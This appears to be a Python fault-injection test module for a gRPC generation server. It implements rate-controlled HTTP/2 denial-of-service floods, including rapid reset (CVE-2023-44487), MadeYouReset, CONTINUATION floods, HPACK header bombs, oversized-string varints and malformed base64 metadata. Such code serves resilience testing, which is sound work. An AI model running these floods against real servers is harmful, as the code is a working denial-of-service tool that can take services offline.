"""Attacks by many small frames: each is sent at a rate, on one connection after another."""

from __future__ import annotations

import asyncio
import struct
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass, field
from random import Random

from hyperframe.frame import DataFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame, WindowUpdateFrame

from penstock.v1 import generation_pb2 as pb
from tests.faults.h2.connection import FRAME_BYTES, GENERATE, Answer, Connection, connected, grpc_headers, grpc_message

MESSAGE = grpc_message(
    pb.GenerateRequest(prompt="Hello", stopping={"max_tokens": 1000, "ignore_eos": True}).SerializeToString()
)
CANCEL = 8
MOST_AT_ONCE = 200  # frames in one write


@dataclass
class Sent:
    """What an attacker did, and what the server did to its connections."""

    units: int = 0
    connections: int = 0
    answers: Counter[str] = field(default_factory=Counter)

    def note(self, connection: Connection) -> None:
        """Look at a connection that is done with."""
        if connection.goaway is not None and connection.goaway.error_code:
            reason = bytes(connection.goaway.additional_data).decode(errors="replace")[:48]
            self.answers[f"GOAWAY {reason or connection.goaway.error_code}"] += 1
        elif connection.closed:
            self.answers["closed"] += 1
        for answer in connection.answers.values():
            self.answers[outcome(answer)] += 1


def outcome(answer: Answer) -> str:
    """How a stream has ended, in two words."""
    if answer.status is not None:
        return f"status {answer.status}"
    return "still open" if answer.reset is None else f"reset {answer.reset}"


Attack = Callable[[str, float, float, Random], Awaitable[Sent]]  # address, seconds, units a second, chance
Unit = Callable[[Connection, Random], None]


def flood(unit: Unit, before: Unit | None = None) -> Attack:
    """The attack that sends one unit after the other; `before` begins each connection."""

    async def attack(address: str, seconds: float, rate: float, chance: Random) -> Sent:
        sent, began = Sent(), time.monotonic()
        while time.monotonic() < began + seconds:
            sent.connections += 1
            with suppress(ConnectionError, TimeoutError):
                async with connected(address) as connection:
                    if before is not None:
                        before(connection, chance)
                    try:
                        await _send(connection, lambda: unit(connection, chance), sent, began, seconds, rate)
                    finally:
                        sent.note(connection)
        return sent

    return attack


async def _send(
    connection: Connection, unit: Callable[[], None], sent: Sent, began: float, seconds: float, rate: float
) -> None:
    while (elapsed := time.monotonic() - began) < seconds and not connection.closed and connection.goaway is None:
        for _ in range(min(int(rate * elapsed) - sent.units, MOST_AT_ONCE)):
            unit()
            sent.units += 1
        await connection.flush()
        await asyncio.sleep(0.005)


# Units


def _raw(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def rapid_reset(connection: Connection, chance: Random) -> None:
    """CVE-2023-44487: a whole call, and at once its reset."""
    stream = connection.begin(grpc_headers(GENERATE))
    if chance.random() < 0.5:
        connection.send_data(stream, MESSAGE)
    connection.send(RstStreamFrame(stream, error_code=CANCEL))


def made_to_reset(connection: Connection, chance: Random) -> None:
    """CVE-2025-8671: a whole call, and then a frame for which the server itself must reset it."""
    stream = connection.begin(grpc_headers(GENERATE))
    connection.send_data(stream, MESSAGE)
    again = HeadersFrame(stream, connection.encoder.encode(grpc_headers(GENERATE)), flags=["END_HEADERS"])
    nothing: Frame = WindowUpdateFrame(stream)
    more: Frame = DataFrame(stream, b"more", flags=["END_STREAM"])
    overflow: Frame = WindowUpdateFrame(stream, (1 << 31) - 1)
    connection.send(chance.choice([again, nothing, more, overflow]))


def open_header_block(connection: Connection, chance: Random) -> None:
    """The beginning of a header block that never ends."""
    connection.send(HeadersFrame(1, connection.encoder.encode(grpc_headers(GENERATE))))


def continuation(connection: Connection, chance: Random) -> None:
    """16 KiB more of it: literals that are not indexed."""
    header = b"\x00\x07x-flood\x64" + b"y" * 100
    connection.send_bytes(_raw(9, 0, 1, (header * (FRAME_BYTES // len(header)))[:FRAME_BYTES]))


def empty_continuation(connection: Connection, chance: Random) -> None:
    """The same with nothing in it."""
    connection.send_bytes(_raw(9, 0, 1, b""))


def _block(connection: Connection, block: bytes) -> None:
    stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
    connection.send_bytes(_raw(1, 0x5, stream, block))


def huge_string(connection: Connection, chance: Random) -> None:
    """CVE-2023-33953: a string that is said to have 4 GiB, and varints that go on and on."""
    _block(connection, b"\x00\x7f\xff\xff\xff\xff\x0f" + b"x" * 64 if chance.random() < 0.5 else b"\x7f" + b"\x80" * 64)


def table_sizes(connection: Connection, chance: Random) -> None:
    """A block of nothing but changes of the table's size."""
    _block(connection, b"\x20\x3f\xe1\x1f" * 2000)


def remember_header(connection: Connection, chance: Random) -> None:
    """A header of nearly the whole table."""
    _block(connection, b"\x40\x06x-bomb\x7f\x81\x1e" + b"z" * 3968)


def header_bomb(connection: Connection, chance: Random) -> None:
    """16 KiB that say that header 16 000 times: 64 MB, were they kept."""
    _block(connection, b"\xbe" * 16_000)


def settings(connection: Connection, chance: Random) -> None:
    """SETTINGS that change nothing."""
    connection.send_bytes(_raw(4, 0, 0, b"\x00\x03\x00\x00\x00\x64"))


def ping(connection: Connection, chance: Random) -> None:
    """PING."""
    connection.send(PingFrame(0, b"pingping"))


def open_call(connection: Connection, chance: Random) -> None:
    """A call whose message never comes."""
    connection.begin(grpc_headers(GENERATE))


def empty_data(connection: Connection, chance: Random) -> None:
    """DATA of no bytes for that call."""
    connection.send_bytes(_raw(0, 0, 1, b""))


def priority(connection: Connection, chance: Random) -> None:
    """PRIORITY of streams that do not exist."""
    connection.send_bytes(_raw(2, 0, 1 + 2 * chance.randrange(1 << 20), struct.pack(">IB", 0, chance.randrange(256))))


def one_more_byte(connection: Connection, chance: Random) -> None:
    """WINDOW_UPDATE by one, of the connection and of the call."""
    connection.send_bytes(_raw(8, 0, chance.choice([0, 1]), struct.pack(">I", 1)))


def long_metadata(connection: Connection, chance: Random) -> None:
    """64 KiB of metadata."""
    _block(connection, connection.encoder.encode(grpc_headers(GENERATE, *((f"x-{n}", "~" * 900) for n in range(18)))))


def bad_base64(connection: Connection, chance: Random) -> None:
    """CVE-2023-32732: binary metadata that is no base64."""
    stream = connection.begin(grpc_headers(GENERATE, ("x-trace-bin", chance.choice(["%%%", "a", "====", "\x00\x01"]))))
    connection.send_data(stream, MESSAGE)
    connection.send(RstStreamFrame(stream, error_code=CANCEL))
